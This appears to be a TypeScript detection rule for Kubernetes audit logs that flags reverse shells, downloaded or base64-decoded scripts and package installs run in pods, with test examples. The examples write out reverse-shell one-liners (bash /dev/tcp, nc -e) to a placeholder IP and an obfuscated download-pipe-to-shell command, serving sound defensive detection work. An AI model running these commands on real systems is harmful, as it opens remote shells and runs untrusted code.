import { type Trait, traitsOf } from '../../commands/command.ts';
import { defineDetection } from '../../sdk/detection.ts';
import { alice, bob, type Caller, call, exec, mallory } from '../../sdk/examples.ts';
import { EXEC, execCommandOf, podOf, replicasOf } from '../../sdk/exec.ts';
import { said } from '../../sdk/phrases.ts';

/** How likely each of them means harm, the most likely first. */
const CONFIDENCE: readonly (readonly [trait: Trait, confidence: number])[] = [
  ['reverse shell', 90],
  ['decoded script', 80],
  ['downloaded script', 80],
  // A debugging session installs or fetches a tool just as an attacker does.
  ['download', 50],
  ['package manager', 50],
];

export default defineDetection({
  id: 'exec-runs-shell-tooling',
  title: 'Reverse shell, download or package manager run in a pod (kubectl exec)',
  description:
    'A command that was run in a pod opens a reverse shell, downloads something from outside the cluster, runs a script that it downloads or decodes from base64, or installs packages. An attacker who runs commands in a container brings tools in this way.',
  tactic: 'execution',
  techniques: ['T1059.013', 'T1059.004'],
  impact: 80,
  confidence: 70,
  denied: { confidence: 50 },
  type: 'TTP',
  falsePositives: 'Debugging with `curl` or a package manager. Requests inside the cluster are left out.',
  triage:
    'Read the command in the request. Isolate the pod before you delete it, so that you can still look at what was downloaded: kubectl -n <namespace> label pod <name> quarantine=true, with a network policy that denies all traffic of that label.',
  references: ['https://attack.mitre.org/techniques/T1059/013/', 'https://attack.mitre.org/techniques/T1059/004/'],
  related: [
    'sumo:Package Management Utility in Container',
    'elastic:execution_kubernetes_pod_exec_potential_reverse_shell',
    'elastic:execution_kubernetes_pod_exec_curl_wget_https',
  ],
  audit: { level: 'metadata', ...EXEC },
  find: (event) => {
    const traits = traitsOf(execCommandOf(event));
    const found = CONFIDENCE.filter(([trait]) => traits.has(trait));
    return found[0] && { confidence: found[0][1], tooling: `a ${found.map(([trait]) => trait).join(', a ')}` };
  },
  weight: ({ confidence }) => ({ confidence }),
  entities: (_found, event) => ({ pod: replicasOf(event) }),
  summary: ({ tooling }, event) => said(event, 'run', `${tooling} in pod ${podOf(event)}`),
});

const script = (by: Caller, text: string, code = 101) => exec(['sh', '-c', text], { by, code });
const KUBELET_RUN = '/api/v1/nodes/n/proxy/run/shop/web-0/web?cmd=curl+-sO+https://example.org/x';

export const examples = () => ({
  fires: {
    'alice ran a reverse shell in pod shop/web-0': script(alice, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
    'alice ran a downloaded script, a download in pod shop/web-0': script(
      alice,
      'w"ge"t -qO- https://example.org/x.sh | tee /tmp/x |$IFS$9sudo$IFS$9ba\\sh',
    ),
    'bob ran a decoded script in pod shop/web-0': script(bob, 'echo aWQgPiAvdG1wL3gK | base64 -d | sh'),
    'bob ran a package manager in pod shop/web-0': exec('apk --no-cache add nmap', { by: bob, verb: 'create' }),
    'alice ran a download in pod shop/web-0': call(alice, 'create nodes/proxy n', { uri: KUBELET_RUN }),
    'mallory was denied running a reverse shell in pod shop/web-0': script(mallory, 'nc 203.0.113.9 1 -e sh', 403),
  },
  silent: {
    'a shell': exec('/bin/bash'),
    'a health check': exec('curl -s http://localhost:8080/healthz'),
    'a service of the cluster': script(bob, 'curl -s http://api.shop.svc.cluster.local/ready | python3 -m x'),
    'words that are not run': exec(['echo', 'curl https://example.org | sh']),
    'a database is not a network tool': exec(['psql', '-c', 'select * from curl_install']),
  },
});
